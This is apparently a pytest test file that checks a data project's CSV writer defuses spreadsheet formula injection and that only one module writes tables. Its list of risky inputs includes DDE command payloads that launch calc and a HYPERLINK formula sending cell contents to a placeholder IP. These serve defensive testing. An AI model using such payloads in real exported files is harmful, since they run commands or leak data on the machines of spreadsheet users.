"""Whatever a spreadsheet would run is defused, by the one writer of the house."""

import ast
import io
import re
from pathlib import Path

import pandas as pd
import pytest

from analytics.reproduce.templates.standardize.csv_text import safe
from analytics.tables import read_table, write_csv
from tests.conftest import ROOT

RISKY = [
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1)",
    "\tx",
    "\rx",
    "\nx",
    "\r\n=1",
    "\0x",
    "\0=1+1",
    "\0\0@x",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "﹢1",
    "﹣1",
    "﹫x",
    "−1+1",
    " =1+1",
    "   +1",
    "\u00a0=1",
    "\u3000＝1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u2060@x",
    "\u202e=1",
    "\u2066-1+1",
    "\x01=1",
    "\x0b=1",
    "\x1f+1",
    "\x7f=1",
    "\x85=1",
    "\u2028=1",
    "'=1+1",
    "''=1",
    "'\u200b=1",
    "'\tx",
    " \t=1",
    "\u00ad=1",
    "\u061c=1",
    "\u180e=1",
    "\u034f=1",
    "\u3164=1",
    "\ufe0f+1",
    "\u2800-1",
    "\ufffa@x",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"see")',
    "=cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@\t=1",
]
SAFE = [
    "a=1",
    "x",
    "1+1",
    "\u200bx",
    " x",
    "é=",
    "'x",
    "''",
    "“=1”",
    "#=1",
    "(=1)",
    "",
    "–x",
    "•",
    "\ufeffa",
    "|=1",
]


def written(text: str, *, name: str = "text") -> str:
    target = io.BytesIO()
    write_csv(pd.DataFrame({name: [text], "n": [1]}), target)
    return target.getvalue().decode()


@pytest.mark.parametrize("text", RISKY)
def test_what_a_spreadsheet_runs_gets_an_apostrophe(text: str) -> None:
    quoted = '"' + f"'{text}".replace('"', '""') + '"'
    assert quoted in written(text)
    assert written("x", name=text).startswith(quoted)
    assert safe(text) == f"'{text}"


@pytest.mark.parametrize("text", SAFE)
def test_other_texts_stand_as_they_are(text: str) -> None:
    assert f'"{text}",1\n' in written(text)
    assert safe(text) == text


@pytest.mark.parametrize("text", [text for text in RISKY if "\0" not in text])
def test_it_comes_back(text: str) -> None:
    frame = pd.DataFrame({"text": [text, "other"], "n": [1, 2]})
    target = io.BytesIO()
    write_csv(frame, target)
    assert read_table(target.getvalue()).frame["text"].tolist() == [text, "other"]


def calls(path: Path) -> set[str]:
    """Names of the methods and functions that a module calls."""
    called = (node.func for node in ast.walk(ast.parse(path.read_text())) if isinstance(node, ast.Call))
    return {
        f.attr if isinstance(f, ast.Attribute) else f.id
        for f in called
        if hasattr(f, "attr") or hasattr(f, "id")
    }


WRITERS = {
    "to_csv",
    "to_parquet",
    "to_excel",
    "to_feather",
    "to_clipboard",
    "savetxt",
    "write_table",
    "tofile",
}
WRITERS |= {"ParquetWriter", "CSVWriter", "DictWriter", "writer", "writerow", "writerows"}
# The writer itself, and the scripts that must work without this package: held against it byte for byte in
# tests/reproduce/test_standardize.py.
OUTSIDE = {
    "analytics/tables/writing/writing.py": {"write_table"},
    "analytics/reproduce/templates/standardize/parquet.py": {"to_parquet"},
    "analytics/scale/text.py": {"write_table", "ParquetWriter"},  # Parquet, in which nothing runs
    "analytics/scale/placing.py": {"write_table", "ParquetWriter"},  # the same
    "analytics/scale/part.py": {"write_table"},  # the same
    "analytics/hub/sampling.py": {"write_table", "ParquetWriter"},  # the same
    "analytics/text/vector_formats.py": {"write_table"},  # numbers alone
}


@pytest.mark.slow
def test_nothing_writes_tables_but_the_writer() -> None:
    sources = [*(ROOT / "analytics").rglob("*.py"), *(ROOT / "pages").glob("*.py"), ROOT / "streamlit_app.py"]
    found = {str(path.relative_to(ROOT)): calls(path) & WRITERS for path in sources}
    assert {name: used for name, used in found.items() if used} == OUTSIDE


def test_tables_on_pages_have_no_csv_of_their_own() -> None:
    """Streamlit's own writes cells as they are."""
    settings = (ROOT / ".streamlit" / "config.toml").read_text()
    assert re.search(r"^disableDataExport = true$", settings, re.MULTILINE)
